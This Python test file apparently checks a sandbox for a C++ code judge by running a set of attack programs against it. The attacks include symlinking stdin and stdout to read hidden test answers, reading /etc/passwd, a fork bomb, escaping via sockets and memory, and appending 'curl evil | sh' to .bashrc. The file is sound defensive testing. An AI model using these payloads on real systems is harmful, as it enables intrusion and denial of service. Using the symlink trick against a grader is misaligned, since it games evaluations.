"""Attacks on the SPoC judge, written as a candidate program would try them.

Each attack is a C++ program plus a check of what it could reach. `contained(name, outcome, ctx)`
returns "" when the sandbox held, else what leaked. The same table runs in-process as root
(`test_sandbox.py`) and, through `python -m tests.systems.spoc.attacks CTX.json CACHE`, as an
ordinary user (the test drops to uid 65534 for that).
"""

from __future__ import annotations

import json
import os
import socket
import sys
from dataclasses import asdict, dataclass
from pathlib import Path

from genlab.systems.spoc.data import TestCase as Case
from genlab.systems.spoc.harness import PREAMBLE, Harness, HarnessConfig

VICTIM_TEXT = "victim: a root-only file the harness must never write\n"
SECRET_TEXT = "s3cret-answer-of-the-hidden-test\n"
PROTECTED_TEXT = "TOPSECRET_protected_header_content"
CHILD_MB = 200  # each child of the memory attack holds this much


@dataclass
class Context:
    folder: str  # world-traversable (0755), as the data and project folders are
    victim: str  # 0600, owned by the harness's user
    secret: str  # world-readable: a hidden test file of the problem
    protected: str  # 0600: what `#include` must not print
    bashrc: str  # a writable dot-file of the user
    socket: str  # a listening UNIX socket (mode 0777)
    abstract: str  # a listening abstract UNIX socket name
    token: str
    project_file: str
    memory_mb: int


def make_context(folder: Path, token: str, project_file: Path, memory_mb: int) -> tuple[Context, list[socket.socket]]:
    folder.mkdir(parents=True, exist_ok=True)
    os.chmod(folder, 0o755)
    paths = {name: folder / name for name in ("victim", "P_testcases_hidden.txt", "protected.h", ".bashrc")}
    paths["victim"].write_text(VICTIM_TEXT)
    os.chmod(paths["victim"], 0o600)
    paths["P_testcases_hidden.txt"].write_text(SECRET_TEXT)
    os.chmod(paths["P_testcases_hidden.txt"], 0o644)
    paths["protected.h"].write_text(PROTECTED_TEXT + "\n")
    os.chmod(paths["protected.h"], 0o600)
    paths[".bashrc"].write_text("# bashrc\n")
    os.chmod(paths[".bashrc"], 0o666)
    sock_path = folder / "host.sock"
    listener = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    listener.bind(str(sock_path))
    os.chmod(sock_path, 0o777)
    listener.listen(4)
    listener.setblocking(False)
    abstract = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    abstract.bind(f"\0genlab-attack-{token}")
    abstract.listen(4)
    abstract.setblocking(False)
    ctx = Context(str(folder), str(paths["victim"]), str(paths["P_testcases_hidden.txt"]), str(paths["protected.h"]),
                  str(paths[".bashrc"]), str(sock_path), f"genlab-attack-{token}", token, str(project_file), memory_mb)
    return ctx, [listener, abstract]


def _c(text: str) -> str:
    return json.dumps(text)  # a C string literal for these plain paths


def sources(ctx: Context) -> dict[str, str]:
    """name -> program body (after the preamble); @NAME@ marks are filled from the context."""
    reads = [ctx.secret, "/etc/passwd", ctx.project_file, ctx.victim, ctx.bashrc, "/etc/hostname"]
    fill = {"@VICTIM@": _c(ctx.victim), "@SECRET@": _c(ctx.secret), "@READS@": ", ".join(_c(p) for p in reads),
            "@TOKEN@": ctx.token, "@SOCKET@": _c(ctx.socket), "@ABSTRACT@": _c(ctx.abstract),
            "@BIG_MB@": str(ctx.memory_mb + 64), "@CHILD_MB@": str(CHILD_MB), "@BASHRC@": _c(ctx.bashrc)}
    bodies = {
        # replace the harness's stdin/stdout files by symlinks (cwd, and the folder /proc names for fd 0/1)
        "symlinked_stdin_stdout": """int main() { char buf[4096]; vector<string> dirs = {"."};
            for (int fd = 0; fd < 2; fd++) { string p = "/proc/self/fd/" + to_string(fd);
                ssize_t k = readlink(p.c_str(), buf, sizeof buf - 1);
                if (k > 0) { buf[k] = 0; string d(buf); if (d.rfind('/') != string::npos) dirs.push_back(d.substr(0, d.rfind('/'))); } }
            for (auto& d : dirs) { string i = d + "/stdin.txt", o = d + "/stdout.txt";
                unlink(i.c_str()); unlink(o.c_str()); symlink(@VICTIM@, i.c_str()); symlink(@SECRET@, o.c_str()); }
            return 0; }""",
        "reads_host_files": """int main() { const char* paths[] = {@READS@}; int n = 0;
            for (auto p : paths) { ifstream f(p); string s; if (f && getline(f, s) && !s.empty()) { n++; cout << p << " "; } }
            cout << n << endl; }""",
        "lists_processes": """int main() { int n = 0; DIR* d = opendir("/proc"); struct dirent* e;
            while (d && (e = readdir(d))) if (isdigit(e->d_name[0])) n++; cout << n << endl; }""",
        "tmp_and_shm_persist": """int main() { int n = 0;
            const char* paths[] = {"/tmp/genlab-attack-@TOKEN@", "/dev/shm/genlab-attack-@TOKEN@", "/var/tmp/genlab-attack-@TOKEN@"};
            for (auto p : paths) { FILE* f = fopen(p, "w"); if (f) { fputs("x", f); fclose(f); n++; } } cout << n << endl; }""",
        "unix_sockets": """int main() { int n = 0; struct sockaddr_un a; memset(&a, 0, sizeof a); a.sun_family = AF_UNIX;
            strncpy(a.sun_path, @SOCKET@, sizeof a.sun_path - 1); int s = socket(AF_UNIX, SOCK_STREAM, 0);
            if (connect(s, (struct sockaddr*)&a, sizeof a) == 0) n++;
            memset(&a, 0, sizeof a); a.sun_family = AF_UNIX; string name = @ABSTRACT@; memcpy(a.sun_path + 1, name.data(), name.size());
            int t = socket(AF_UNIX, SOCK_STREAM, 0);
            if (connect(t, (struct sockaddr*)&a, offsetof(struct sockaddr_un, sun_path) + 1 + name.size()) == 0) n++;
            cout << n << endl; }""",
        # one allocation over the limit; then four children, each under the per-process limit, that hold
        # their memory for 1 s at the same time (a child counts if it survived that, i.e. exited 0)
        "memory_over_the_tree": """void touch(volatile char* p, size_t n) { for (size_t i = 0; i < n; i += 4096) p[i] = 1; }
            int main() { size_t big = (size_t)@BIG_MB@ << 20; char* p = (char*)malloc(big);
            int alone = 0; if (p) { touch(p, big); alone = 1; free(p); }
            for (int i = 0; i < 4; i++) if (fork() == 0) {
                size_t n = (size_t)@CHILD_MB@ << 20; char* q = (char*)malloc(n); if (!q) _exit(1); touch(q, n);
                sleep(1); _exit(0); }
            int held = 0, st; while (wait(&st) > 0) if (WIFEXITED(st) && WEXITSTATUS(st) == 0) held++;
            cout << alone << " " << held << endl; }""",
        "appends_to_bashrc": """int main() { FILE* f = fopen(@BASHRC@, "a"); int ok = f && fputs("curl evil | sh\\n", f) >= 0;
            if (f) ok = fclose(f) == 0 && ok; cout << ok << endl; }""",
        "fork_bomb": "int main() { while (true) fork(); }",
        "daemons": "int main() { for (int i = 0; i < 8; i++) if (fork() == 0) { setsid(); if (fork() == 0) sleep(1000); _exit(0); }"
                   " cout << 1 << endl; }",
        "infinite_loop": "int main() { volatile long x = 0; while (true) x++; }",
    }
    for mark, value in fill.items():
        bodies = {k: v.replace(mark, value) for k, v in bodies.items()}
    return bodies


HEADERS = "#include <dirent.h>\n#include <sys/socket.h>\n#include <sys/un.h>\n#include <sys/wait.h>\n#include <unistd.h>\n"


def program(body: str) -> str:
    return PREAMBLE + HEADERS + body + "\n"


@dataclass
class Outcome:
    status: str  # the harness's run status, or the evaluation's status for evaluated attacks
    stdout: str = ""
    compile_error: str = ""
    detail: str = ""


def run_attack(harness: Harness, name: str, ctx: Context) -> Outcome:
    if name == "include_protected":
        ev = harness.evaluate(PREAMBLE + f'#include "{ctx.protected}"\nint main() {{}}\n', "P",
                              {"public": [Case("", "")], "hidden": [Case("", "")]})
        return Outcome(ev.status, compile_error=ev.compile_error)
    if name == "symlinked_stdin_stdout":  # test 0 expects the secret; test 1's input would go to the victim
        ev = harness.evaluate(program(sources(ctx)[name]), "P",
                              {"public": [Case("x\n", SECRET_TEXT), Case("overwritten\n", "")], "hidden": [Case("", "")]})
        return Outcome(ev.status, detail=ev.detail, compile_error=ev.compile_error)
    with harness.run_folder() as (folder, slot):
        ok, message = harness.compile(program(sources(ctx)[name]), folder, slot)
        if not ok:
            return Outcome("compile_error", compile_error=message)
        result = harness.run_binary(folder / "prog", "", slot)
    return Outcome(result.status, result.stdout.decode(errors="replace"))


NAMES = ["symlinked_stdin_stdout", "reads_host_files", "lists_processes", "tmp_and_shm_persist", "unix_sockets",
         "memory_over_the_tree", "include_protected", "appends_to_bashrc", "fork_bomb", "daemons", "infinite_loop"]


def contained(name: str, out: Outcome, ctx: Context, tree_limit: bool) -> str:
    """'' when the attack was contained, else what got through. `tree_limit`: a cgroup bounds the tree."""
    leaks = []
    if Path(ctx.victim).read_text() != VICTIM_TEXT:
        leaks.append("the victim file was written")
    if Path(ctx.secret).read_text() != SECRET_TEXT:
        leaks.append("the hidden test file was written")
    if Path(ctx.bashrc).read_text() != "# bashrc\n":
        leaks.append(".bashrc was written")
    if out.status == "compile_error" and name != "include_protected":
        return f"did not compile: {out.compile_error[:300]}"
    words = out.stdout.split()
    if name == "symlinked_stdin_stdout" and out.status == "pass":
        leaks.append("passed by reading a host file as its output")
    if name == "reads_host_files" and words != ["0"]:
        leaks.append(f"read {out.stdout.strip()}")
    if name == "lists_processes" and (not words or int(words[-1]) > 4):
        leaks.append(f"sees {out.stdout.strip()} processes in /proc")
    if name == "tmp_and_shm_persist":
        for d in ("/tmp", "/dev/shm", "/var/tmp"):
            if Path(d, f"genlab-attack-{ctx.token}").exists():
                leaks.append(f"left {d}/genlab-attack-{ctx.token}")
    if name == "unix_sockets" and words != ["0"]:
        leaks.append(f"connected to {out.stdout.strip()} host sockets")
    if name == "memory_over_the_tree" and len(words) == 2:
        alone, held = map(int, words)
        if alone:
            leaks.append(f"one process allocated more than {ctx.memory_mb} MiB")
        # a cgroup bounds the tree; the documented fallback bounds each process (RLIMIT_AS) only
        if tree_limit and held * CHILD_MB > ctx.memory_mb:
            leaks.append(f"{held} children held {held * CHILD_MB} MiB under a {ctx.memory_mb} MiB tree limit")
    if name == "include_protected":
        if PROTECTED_TEXT in out.compile_error:
            leaks.append("the compiler printed the protected file")
        if out.status != "compile_error":
            leaks.append("the protected header compiled")
    if name == "appends_to_bashrc" and words != ["0"]:
        leaks.append("opened .bashrc for writing")
    if name in ("fork_bomb", "infinite_loop") and out.status not in ("timeout", "runtime_error", "memory_limit"):
        leaks.append(f"status {out.status}")
    return "; ".join(leaks)


def main() -> None:
    """As an ordinary user: CTX.json CACHE -> {name: what leaked} as JSON on stdout."""
    ctx = Context(**json.loads(Path(sys.argv[1]).read_text()))
    config = HarnessConfig(workers=1, cpu_s=1, wall_s=2.0, memory_mb=ctx.memory_mb, output_mb=2)
    with Harness(None, sys.argv[2], config) as harness:
        tree = harness.sandbox.tree is not None
        report = {name: contained(name, run_attack(harness, name, ctx), ctx, tree) for name in NAMES}
        report["_mode"] = harness.sandbox.describe()
    print(json.dumps(report))


def context_json(ctx: Context) -> str:
    return json.dumps(asdict(ctx))


if __name__ == "__main__":
    main()
